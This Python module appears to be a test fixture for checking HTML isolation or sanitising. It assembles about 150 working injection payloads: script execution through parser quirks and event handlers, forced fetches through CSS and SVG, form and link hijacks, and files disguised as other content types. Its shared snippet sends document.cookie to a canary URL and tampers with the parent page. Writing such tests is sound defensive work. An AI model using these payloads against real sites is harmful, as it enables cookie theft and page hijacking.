"""A page that tries everything: to run, to phone home, to lead away, to reach the desk around it.

Each way has a name. What it sends goes to ``{c}/name``; what it runs says ``RAN name`` on the console, and sends that too.
"""

from __future__ import annotations

import base64

RUN = (
    "console.warn('RAN {n}');fetch('{c}/{n}?ran').catch(()=>0);"
    "try{{parent.document.title='taken';parent.document.body.dataset.taken='{n}'}}catch(e){{}}"
    "try{{top.postMessage('taken {n}','*')}}catch(e){{}}"
    "try{{new Image().src='{c}/{n}?cookie='+encodeURIComponent(document.cookie)}}catch(e){{}}"
)
# {r} is RUN for a script or an attribute in double quotes.
WAYS: dict[str, str] = {
    # What runs
    "script": "<script>{r}</script>",
    "script-src": '<script src="{c}/script-src.js"></script>',
    "script-module": '<script type=module src="{c}/script-module.js"></script>',
    "script-slash": "<script/x>{r}</script>",
    "script-upper": "<SCRIPT>{r}</SCRIPT>",
    "script-after-comment": "<!-- --!><script>{r}</script>",
    "script-in-noscript-title": '<noscript><p title="</noscript><script>{r}</script>"></noscript>',
    "script-in-style-end": "<style>a{{content:'</style><script>{r}</script>'}}</style>",
    "script-in-textarea": "<textarea></textarea><script>{r}</script>",
    "script-in-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={r}&gt;">',
    "onload-body": '<body onload="{r}">',
    "onload-svg": '<svg onload="{r}"></svg>',
    "onload-style": '<style onload="{r}">a{{}}</style>',
    "onload-link": '<link rel=stylesheet href="data:text/css,a" onload="{r}">',
    "onerror-img": '<img src="data:," onerror="{r}">',
    "onerror-unquoted": "<img src=data:, onerror={u}>",
    "onerror-slash": '<img/src="data:,"/onerror="{r}"/>',
    "onerror-video": '<video><source onerror="{r}" src="data:,"></video>',
    "onerror-audio": '<audio src="data:," onerror="{r}"></audio>',
    "ontoggle": '<details open ontoggle="{r}">x</details>',
    "onfocus": '<input autofocus onfocus="{r}">',
    "onstart-marquee": '<marquee onstart="{r}">x</marquee>',
    "onanimation": '<style>@keyframes k{{}}</style><b style="animation:k" onanimationstart="{r}">x</b>',
    "onpageshow": '<body onpageshow="{r}">',
    "iframe-javascript": '<iframe src="javascript:{r}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;{r}&lt;/script&gt;"></iframe>',
    "iframe-data": '<iframe src="data:text/html;base64,{b}"></iframe>',
    "object-data": '<object data="data:text/html;base64,{b}"></object>',
    "embed-data": '<embed src="data:text/html;base64,{b}">',
    "svg-script": "<svg><script>{r}</script></svg>",
    "svg-script-href": '<svg><script href="{c}/svg-script-href.js"></script></svg>',
    "svg-foreign": '<svg><foreignObject><img src="data:," onerror="{r}"></foreignObject></svg>',
    "svg-animate": '<svg><animate attributeName=x dur=1s onbegin="{r}" /></svg>',
    "svg-set": '<svg><a><set attributeName=href to="javascript:0" /><text y=20>x</text></a><set attributeName=x onbegin="{r}" /></svg>',
    "a-javascript": '<a class=click href="javascript:{r}">k</a>',
    "a-javascript-tab": '<a class=click href="java&#9;script:{r}">k</a>',
    "form-javascript": '<form action="javascript:{r}"><button class=click>k</button></form>',
    "button-formaction": '<form><button class=click formaction="javascript:{r}">k</button></form>',
    "template-shadow": '<div><template shadowrootmode=open><img src="data:," onerror="{r}"></template></div>',
    "import-map": '<script type=importmap>{{"imports":{{"x":"{c}/import-map.js"}}}}</script><script type=module>import "x"</script>',
    # What is fetched
    "img": '<img src="{c}/img">',
    "img-srcset": '<img srcset="{c}/img-srcset 1x">',
    "img-entity": '<img src="&#104;ttp{p}/img-entity">',
    "img-tab": '<img src="ht\ttp{p}/img-tab">',
    "img-protocol-less": '<img src="{s}/img-protocol-less">',
    "img-backslash": '<img src="http:\\\\{h}\\img-backslash">',
    "img-alias": '<image src="{c}/img-alias">',
    "img-lazy": '<img loading=lazy src="{c}/img-lazy">',
    "picture": '<picture><source srcset="{c}/picture"><img></picture>',
    "input-image": '<input type=image src="{c}/input-image">',
    "background": '<table background="{c}/background"><tr><td>x</table>',
    "video-poster": '<video poster="{c}/video-poster"></video>',
    "video-src": '<video src="{c}/video-src" preload=auto autoplay muted></video>',
    "audio-source": '<audio preload=auto><source src="{c}/audio-source"></audio>',
    "track": '<video src="data:video/mp4," ><track default kind=captions src="{c}/track"></video>',
    "object": '<object data="{c}/object"></object>',
    "embed": '<embed src="{c}/embed">',
    "applet": '<applet archive="{c}/applet" code=x></applet>',
    "iframe": '<iframe src="{c}/iframe"></iframe>',
    "frame-in-srcdoc": '<iframe srcdoc="&lt;img src={c}/frame-in-srcdoc&gt;"></iframe>',
    "portal": '<portal src="{c}/portal"></portal>',
    "fenced": '<fencedframe src="{c}/fenced"></fencedframe>',
    "bgsound": '<bgsound src="{c}/bgsound">',
    "link-stylesheet": '<link rel=stylesheet href="{c}/link-stylesheet">',
    "link-icon": '<link rel=icon href="{c}/link-icon">',
    "link-preload": '<link rel=preload as=image href="{c}/link-preload">',
    "link-imagesrcset": '<link rel=preload as=image imagesrcset="{c}/link-imagesrcset 1x">',
    "link-modulepreload": '<link rel=modulepreload href="{c}/link-modulepreload">',
    "link-prefetch": '<link rel=prefetch href="{c}/link-prefetch">',
    "link-prerender": '<link rel=prerender href="{c}/link-prerender">',
    "link-preconnect": '<link rel=preconnect href="{c}">',
    "link-dns-prefetch": '<link rel=dns-prefetch href="{c}">',
    "link-manifest": '<link rel=manifest href="{c}/link-manifest">',
    "link-dictionary": '<link rel=compression-dictionary href="{c}/link-dictionary">',
    "speculation": '<script type=speculationrules>{{"prefetch":[{{"urls":["{c}/speculation"]}}]}}</script>',
    "svg-image": '<svg><image href="{c}/svg-image" width=9 height=9 /></svg>',
    "svg-image-xlink": '<svg><image xlink:href="{c}/svg-image-xlink" width=9 height=9 /></svg>',
    "svg-use": '<svg><use href="{c}/svg-use#a" /></svg>',
    "svg-feimage": '<svg><filter id=f><feImage href="{c}/svg-feimage" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
    "svg-fill": '<svg><rect fill="url({c}/svg-fill#x)" width=9 height=9 /></svg>',
    "svg-mask": '<svg><rect mask="url({c}/svg-mask#x)" width=9 height=9 /></svg>',
    "svg-style": "<svg><style>rect{{fill:u&#114;l({c}/svg-style#x);background:url({c}/svg-style)}}</style><rect width=9 height=9 /></svg>",
    "css-import": '<style>@import "{c}/css-import";</style>',
    "css-import-url": "<style>@import url({c}/css-import-url) screen;</style>",
    "css-import-escaped": "<style>@\\69mport '{c}/css-import-escaped';</style>",
    "css-import-data": "<style>@import 'data:text/css,@import url({c}/css-import-data);';</style>",
    "css-url": '<b style="display:block;background:url({c}/css-url)">x</b>',
    "css-url-quoted": "<b style=\"display:block;background:url( '{c}/css-url-quoted' )\">x</b>",
    "css-url-escaped": "<b style='display:block;background:u\\72l({c}/css-url-escaped)'>x</b>",
    "css-url-hex": "<b style='display:block;background:\\000075\\000072\\00006c({c}/css-url-hex)'>x</b>",
    "css-url-entity": "<b style='display:block;background:u&#114;l({c}/css-url-entity)'>x</b>",
    "css-url-var": "<b style='display:block;--a:url({c}/css-url-var);background:var(--a)'>x</b>",
    "css-image-set": "<b style=\"display:block;background:image-set('{c}/css-image-set' 1x)\">x</b>",
    "css-image-set-var": "<b style=\"display:block;--a:'{c}/css-image-set-var';background:image-set(var(--a) 1x)\">x</b>",
    "css-webkit-image-set": '<b style="display:block;background:-webkit-image-set(url({c}/css-webkit-image-set) 1x)">x</b>',
    "css-cross-fade": '<b style="display:block;background:-webkit-cross-fade(url({c}/css-cross-fade),url(data:,),50%)">x</b>',
    "css-cursor": "<b style='cursor:url({c}/css-cursor),auto'>x</b>",
    "css-list": "<ul><li style='list-style-image:url({c}/css-list)'>x</ul>",
    "css-content": "<style>.k::before{{content:url({c}/css-content)}}</style><b class=k>x</b>",
    "css-border": "<b style='border:5px solid;border-image-source:url({c}/css-border)'>x</b>",
    "css-mask": "<b style='display:block;mask-image:url({c}/css-mask)'>x</b>",
    "css-filter": "<b style='display:block;filter:url({c}/css-filter#f)'>x</b>",
    "css-shape": "<b style='float:left;shape-outside:url({c}/css-shape)'>x</b>",
    "css-font": "<style>@font-face{{font-family:q;src:url({c}/css-font)}}.q{{font-family:q}}</style><b class=q>x</b>",
    "css-comment": "<style>/*</style><style>*/b{{background:url({c}/css-comment)}}</style>",
    "css-broken-string": "<style>a{{x:\"\n}}.z{{background:url({c}/css-broken-string)}}</style><b class=z style='display:block'>x</b>",
    "css-in-file": '<link rel=stylesheet href="https://paper.example.com/hostile.css"><b class=filed style="display:block">x</b>',
    "svg-in-file": '<img src="https://paper.example.com/hostile.svg">',
    "html-as-png": '<img src="https://paper.example.com/page.png"><iframe src="https://paper.example.com/page.png"></iframe>',
    # What leads away, or changes what is around it
    "meta-refresh": '<meta http-equiv=refresh content="1;url={c}/meta-refresh">',
    "meta-cookie": '<meta http-equiv=set-cookie content="sessionid=stolen">',
    "meta-csp": '<meta http-equiv=content-security-policy content="img-src *; report-uri {c}/meta-csp">',
    "base": '<base href="{c}/base/"><img src="base-img">',
    "base-target": "<base target=_top>",
    "a-ping": '<a class=click href="#x" ping="{c}/a-ping">k</a>',
    "a-top": '<a class=click target=_top href="{c}/a-top">k</a>',
    "a-blank": '<a class=click target=_blank href="{c}/a-blank">k</a>',
    "a-download": '<a class=click download href="{c}/a-download">k</a>',
    "area": '<img usemap="#m" width=9 height=9 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=rect coords="0,0,9,9" href="{c}/area"></map>',
    "svg-a": '<svg width=20 height=20><a class=click href="{c}/svg-a"><text y=15>k</text></a></svg>',
    "svg-a-xlink": '<svg width=20 height=20><a class=click xlink:href="{c}/svg-a-xlink"><text y=15>k</text></a></svg>',
    "math-href": '<math><mi class=click href="{c}/math-href">k</mi></math>',
    "form-action": '<form action="{c}/form-action"><input name=a><button class=click>k</button></form>',
    "form-formaction": '<form><button class=click formaction="{c}/form-formaction" formmethod=post>k</button></form>',
    "form-outside": '<form id=o action="{c}/form-outside"></form><button class=click form=o>k</button>',
    "isindex": '<isindex action="{c}/isindex">',
    "cite": '<blockquote cite="{c}/cite">x</blockquote>',
    "longdesc": '<img longdesc="{c}/longdesc" src="data:,">',
    "xml-stylesheet": '<?xml-stylesheet href="{c}/xml-stylesheet"?>',
    "doctype": '<!DOCTYPE html SYSTEM "{c}/doctype">',
    "plaintext": '<plaintext><img src="{c}/plaintext">',
}
# At the end: they swallow what follows.
LAST = ("script-in-math", "plaintext")


def run(name: str, canary: str) -> str:
    return RUN.format(n=name, c=canary)


def way(name: str, canary: str) -> str:
    """One way, as markup."""
    script = run(name, canary)
    host = canary.removeprefix("http://")
    return WAYS[name].format(
        c=canary,
        p=f"://{host}",
        s=f"//{host}",
        h=host,
        r=script.replace('"', "&quot;"),
        u=f"console.warn('RAN&#32;{name}')",
        b=base64.b64encode(f"<script>{script}</script>".encode()).decode(),
    )


def hostile_page(canary: str) -> str:
    """All of them on one page."""
    first = [name for name in WAYS if name not in LAST]
    return "<!doctype html><title>Quiet</title><h1>A quiet page</h1>" + "\n".join(
        way(name, canary) for name in [*first, *LAST]
    )


def hostile_parts(canary: str) -> dict[str, tuple[str, str]]:
    """What the record holds beside it, as hostile."""
    script = run("svg-in-file", canary)
    return {
        "https://paper.example.com/hostile.css": (
            "text/css",
            f"@import '{canary}/css-in-file'; .filed{{background:url({canary}/css-in-file)}}</style><script>{script}</script>",
        ),
        "https://paper.example.com/hostile.svg": (
            "image/svg+xml",
            f'<?xml-stylesheet href="{canary}/svg-in-file"?><svg xmlns="http://www.w3.org/2000/svg" onload="{script}">'
            f'<script>{script}</script><image href="{canary}/svg-in-file" width="9" height="9"/></svg>',
        ),
        "https://paper.example.com/page.png": ("image/png", f"<html><script>{run('html-as-png', canary)}</script>"),
    }
